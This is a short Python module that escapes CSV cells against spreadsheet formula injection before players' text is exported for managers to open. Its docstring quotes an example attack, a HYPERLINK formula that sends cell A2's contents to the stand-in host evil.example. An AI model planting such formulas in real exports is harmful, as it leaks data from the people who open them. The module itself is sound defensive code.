"""CSV files that managers open in Excel, WPS or Google Sheets, with players' words in them.

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage
return before one) as a formula: a player who typed `=HYPERLINK("https://evil.example/?"&A2,
"Click for details")` as a question, or a DDE command, had it run on the manager's machine
when the export was opened (CSV injection, OWASP). Such a text cell is written with a `'`
before it, which spreadsheets show as the text itself; numbers stay numbers.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: Any) -> Any:
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value


class SpreadsheetWriter:
    """csv.writer's writerow and writerows, every text cell made inert first."""

    def __init__(self, out) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
